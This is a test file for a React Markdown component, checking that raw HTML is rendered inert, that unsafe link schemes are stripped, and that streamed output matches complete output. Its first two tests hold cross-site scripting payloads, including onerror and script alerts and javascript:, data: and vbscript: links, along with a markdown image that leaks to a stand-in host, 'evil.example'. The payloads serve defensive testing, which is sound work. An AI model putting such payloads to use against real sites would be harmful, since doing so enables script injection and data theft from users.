import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, it, vi } from "vitest";
import { I18nProvider } from "../lib/i18n";
import { Markdown } from "./markdown";

afterEach(cleanup);

async function show(text: string, growing = false) {
  const { container } = render(
    <I18nProvider>
      <Markdown text={text} growing={growing} />
    </I18nProvider>,
  );
  await vi.waitFor(() => expect(container.querySelector(".said")).not.toBeNull());
  return container;
}

it("leaves HTML as text and loads nothing", async () => {
  const said = await show(
    '<img src="https://evil.example/x.png" onerror="alert(1)"><script>alert(2)</script>\n\n![secret](https://evil.example/leak?q=1)\n\n<iframe src="https://evil.example"></iframe>',
  );
  expect(said.querySelector("img,script,iframe,object,embed,style,link")).toBeNull();
  expect(said.textContent).toContain("<script>alert(2)</script>");
  const link = said.querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://evil.example/leak?q=1");
  expect(link?.getAttribute("rel")).toContain("noopener");
});

it("makes no links that run anything", async () => {
  const said = await show("[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](https://good.example)");
  const found = [...said.querySelectorAll("a")].map((a) => a.getAttribute("href") ?? "");
  expect(found.filter((href) => href !== "")).toEqual(["https://good.example"]);
});

it("shows the same while it grows as when it is whole", async () => {
  const text = "# Head\n\n- a\n- b\n\n```js\nlet x;\n\nlet y;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd **bold**.";
  const whole = (await show(text)).textContent;
  cleanup();
  const growing = await show(text, true);
  expect(growing.textContent?.replace(/\s+/g, "")).toBe(whole?.replace(/\s+/g, ""));
  expect(growing.querySelector("table td")?.textContent).toBe("1");
});
